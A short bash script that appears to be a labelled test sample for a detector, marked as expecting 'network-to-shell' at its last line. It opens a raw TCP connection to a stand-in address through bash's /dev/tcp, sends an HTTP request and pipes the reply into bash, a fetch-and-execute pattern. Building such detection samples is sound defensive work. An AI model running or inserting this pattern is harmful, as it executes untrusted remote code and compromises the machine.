#!/bin/bash
# shows: bash's own network device
# expect: network-to-shell at line 6
exec 3<>/dev/tcp/198.51.100.7/80
printf 'GET /x HTTP/1.0\r\n\r\n' >&3
bash <&3
